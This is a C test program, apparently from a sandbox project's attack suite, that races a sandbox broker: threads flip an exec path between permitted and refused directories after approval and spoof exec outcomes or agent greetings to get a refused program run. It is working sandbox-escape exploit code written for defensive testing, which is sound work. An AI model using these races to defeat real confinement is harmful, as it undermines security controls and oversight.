/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Execute what the policy refuses, but Landlock cannot refuse (DIR/secret, inside an exec grant): the path is
 * changed after the broker approved it, and the broker is kept from looking at what came of it.
 *
 * This program lies in DIR/public and in DIR/secret, too. Where the one in DIR/secret gets as far as main,
 * with the C library opened and linked by then, it was served.
 */
#include <pthread.h>
#include <signal.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <time.h>

#include "attack.h"
#include "proto/call.h"

#define WORDS     14 /* of argv: long ones, which take the kernel a while to copy */
#define WORD_SIZE 131000

static volatile bool go;
static char path[4096], *place; /* "public" or "secret" in it */
static char *words[WORDS + 3];
static struct fl_hello hello; /* as the agent is told; empty where there is none */

static int as_image(void)
{
        const char *name = (const char *)getauxval(AT_EXECFN);

        if (!strstr(name, "/secret/"))
                return 0;
        int fd = open(in_dir("public/file"), O_RDONLY);
        if (fd >= 0)
                escaped("a refused program runs, and is served");
        return 1;
}

static void *flip(void *unused)
{
        (void)unused;
        for (;;) {
                memcpy(place, "public", 6);
                for (volatile int i = 0; i < 300; i++)
                        ;
                memcpy(place, "secret", 6);
                for (volatile int i = 0; i < 300; i++)
                        ;
        }
        return NULL;
}

/* An exec of its own, approved, which the kernel lets fail (argv is no pointer); then anything else. */
static void *meddle(void *delay)
{
        const char *program = in_dir("public/attack_execs");

        while (!go)
                ;
        for (volatile long i = 0; i < (long)delay; i++)
                ;
        hidden_syscall(SYS_execve, (long)program, 1, 0, 0, 0, 0);
        close((int)hidden_syscall(SYS_open, (long)in_dir("public/file"), O_RDONLY, 0, 0, 0, 0));
        pause();
        return NULL;
}

/* Thread one execs by a path that changes; thread two wants the broker to think that it has failed. */
static void race_once(long delay, bool meddling)
{
        pthread_t thread;

        snprintf(path, sizeof(path), "%s", in_dir("public/attack_execs"));
        place = strstr(path, "public/attack");
        pthread_create(&thread, NULL, flip, NULL);
        if (meddling)
                pthread_create(&thread, NULL, meddle, (void *)delay);
        go = true;
        for (int i = 0; i < 10; i++)
                hidden_syscall(SYS_execve, (long)path, (long)words, (long)environ, 0, 0, 0);
        _exit(98);
}

static void in_child(void (*once)(long delay, bool meddling), long delay, bool meddling)
{
        int status;
        pid_t pid = fork();

        if (pid == 0) {
                alarm(5);
                once(delay, meddling);
        }
        waitpid(pid, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 1)
                attack_escapes++;
        if (WIFSIGNALED(status) && WTERMSIG(status) == SIGALRM)
                escaped("the broker hangs");
}

static long call(uint64_t what, uint64_t a, uint64_t b, uint64_t c)
{
        return hidden_syscall(FL_CALL_NR, (long)what, (long)a, (long)b, (long)c, 0, 0);
}

static bool has_agent(void)
{
        return call(FL_CALL_PLAN, (uint64_t)-1, 0, 0) != -ENOSYS;
}

/* As an agent does before it executes itself. */
static bool announce(const char *program)
{
        return hidden_syscall(SYS_execve, (long)program, (long)words, (long)environ, (long)FL_EXEC_MARK, 0,
                              0) == -FL_EXEC_BY_AGENT;
}

static void *flip_announced(void *unused)
{
        volatile uint16_t *start = (volatile uint16_t *)path;
        const uint16_t announced = *start, other = 's'; /* "s": a link to the one in DIR/secret */

        (void)unused;
        for (;;) {
                *start = other;
                for (volatile int i = 0; i < 300; i++)
                        ;
                *start = announced;
                for (volatile int i = 0; i < 300; i++)
                        ;
        }
        return NULL;
}

/* Says hello in the name of the image that is to come. */
static void *greet(void *delay)
{
        static struct fl_hello unused;

        while (!go)
                ;
        for (volatile long i = 0; i < (long)delay; i++)
                ;
        close((int)call(FL_CALL_HELLO, (uint64_t)&unused, sizeof(unused), 0));
        pause();
        return NULL;
}

/* The agent's exec, of its own file: announced for the program in DIR/public, and the path changed. */
static void announced_once(long delay, bool meddling)
{
        const char *program = in_dir("public/attack_execs");
        pthread_t thread;

        strcpy(path, hello.agent_path);
        words[0] = (char *)program;
        if (!announce(program))
                _exit(97);
        pthread_create(&thread, NULL, flip_announced, NULL);
        if (meddling)
                pthread_create(&thread, NULL, greet, (void *)delay);
        go = true;
        for (int i = 0; i < 10; i++)
                hidden_syscall(SYS_execve, (long)path, (long)words, (long)environ, 0, 0, 0);
        _exit(98);
}

static void race(void (*once)(long delay, bool meddling), bool meddling, double seconds)
{
        struct timespec start, now;
        int tries = 0;

        clock_gettime(CLOCK_MONOTONIC, &start);
        do {
                in_child(once, tries * 7919 % 100000, meddling);
                tries++;
                clock_gettime(CLOCK_MONOTONIC, &now);
        } while (!attack_escapes &&
                 (double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
        printf("%d tries\n", tries);
}

int main(int argc, char **argv)
{
        if (argc > 1 && !strcmp(argv[1], "image"))
                return as_image();
        words[0] = path;
        words[1] = "image";
        for (int i = 2; i < WORDS + 2; i++) {
                words[i] = malloc(WORD_SIZE);
                memset(words[i], 'x', WORD_SIZE - 1);
                words[i][WORD_SIZE - 1] = 0;
        }
        race(race_once, false, 0.3);
        race(race_once, true, 1);
        if (has_agent() && announce(in_dir("public/attack_execs")) &&
            call(FL_CALL_HELLO, (uint64_t)&hello, sizeof(hello), 0) >= 0) {
                (void)!symlink("secret/attack_execs", in_dir("s"));
                race(announced_once, false, 0.3);
                race(announced_once, true, 1);
        }
        still_confined();
        return finished();
}
